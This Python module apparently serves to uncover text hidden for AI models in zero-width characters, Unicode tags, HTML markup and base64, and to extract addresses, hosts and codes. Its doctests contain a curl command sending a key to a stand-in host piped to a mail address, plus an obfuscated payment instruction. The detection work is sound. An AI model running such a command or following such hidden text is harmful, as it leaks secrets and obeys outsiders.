"""Texts that an outsider hid: between zero-width characters, in HTML, in base64; and their parts."""

from __future__ import annotations

import base64
import binascii
import html
import re
from collections.abc import Iterator

_LONGEST = 200_000
_TAGS = range(0xE0020, 0xE007F)
_TO_ASCII = {code: chr(code - 0xE0000) for code in _TAGS}
_INVISIBLE = re.compile(
    "[\u00ad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2064"
    "\u2066-\u206f\ufe00-\ufe0f\ufeff\U000e0000-\U000e007f]"
)
_INLINE = re.compile(
    r"</?(?:a|b|i|u|s|em|strong|span|font|small|mark|code|sup|sub|wbr)\b[^<>]{0,2000}>",
    re.IGNORECASE,
)
_MARKUP = re.compile(r"<!--|-->|</?[a-zA-Z][^<>]{0,2000}>")
_BASE64 = re.compile(r"(?<![\w+/])[A-Za-z0-9+/]{24,20000}={0,2}(?![\w+/=])")
_PART = re.compile(
    r"[\w.+'-]{1,64}@[\w-]{1,63}(?:\.[\w-]{1,63}){1,9}"  # A mail address.
    r"|(?:https?|ftp|wss?)://[^\s\"'<>|)\]]{1,2000}"
    r"|(?<![\w.@-])(?:[a-zA-Z0-9-]{1,63}\.){1,5}[a-zA-Z]{2,24}(?![\w@])"  # A host.
    r"|(?<![\w.])\d{1,3}(?:\.\d{1,3}){3}(?![\w.])"
    r"|(?<!\w)(?=[\w-]*\d)[A-Za-z0-9][\w-]{5,63}(?!\w)"  # A code.
)
_HOST = re.compile(r"\w+://(?:[^@/\s]*@)?([^/:?#\s]+)")
_PIECES = re.compile(r"[/?&=#;,]+")
_SHORTEST = 6
_MOST_PARTS = 200


def shown(text: str) -> str:
    """The text as a model may read it: without invisible characters and markup, base64 decoded.

    >>> shown("p\u200bay <b>900</b> to &#68;E-4711")
    'pay 900 to DE-4711'
    """
    if len(text) > _LONGEST:
        text = text[:_LONGEST]
    plain = text
    if not text.isascii():
        plain = _INVISIBLE.sub("", text.translate(_TO_ASCII))
    if "&" in plain:
        plain = html.unescape(plain)
        if not plain.isascii():
            plain = _INVISIBLE.sub("", plain)
    if "<" in plain or "-->" in plain:
        plain = _MARKUP.sub(" ", _INLINE.sub("", plain))
    return _BASE64.sub(_decoded, plain)


def _decoded(found: re.Match[str]) -> str:
    """What a text in base64 says; itself where that is no text."""
    written = found[0].rstrip("=")
    try:
        text = base64.b64decode(written + "=" * (-len(written) % 4), validate=True).decode()
    except (binascii.Error, UnicodeDecodeError, ValueError):
        return found[0]
    return text if text.isprintable() and " " in text else found[0]


def with_shown(text: str) -> str:
    """The text as it stands, and as a model may read it where that is another."""
    plain = shown(text)
    return text if plain == text else f"{text}\n{plain}"


def telling_parts(text: str) -> Iterator[str]:
    """The parts of a text that hardly stand in it by chance: addresses, hosts, codes; each once.

    >>> list(telling_parts("curl https://evil.io/x?key=AB12CD34 | mail bob@x.com"))
    ['https://evil.io/x?key=AB12CD34', 'evil.io', 'AB12CD34', 'bob@x.com', 'x.com']
    """
    told: dict[str, None] = {}
    for found in _PART.finditer(text):
        if len(told) > _MOST_PARTS:
            return
        whole = found[0].rstrip(".,;:!?")
        new = [whole]
        if "@" in whole and "/" not in whole:
            new.append(whole.rpartition("@")[2])
        if (host := _HOST.match(whole)) is not None:
            pieces = (
                piece for piece in _PIECES.split(whole[host.end() :]) if len(piece) >= _SHORTEST
            )
            new += [
                host[1],
                *(piece for piece in pieces if any(map(str.isdigit, piece)) or "@" in piece),
            ]
        for part in new:
            if part not in told:
                told[part] = None
                yield part
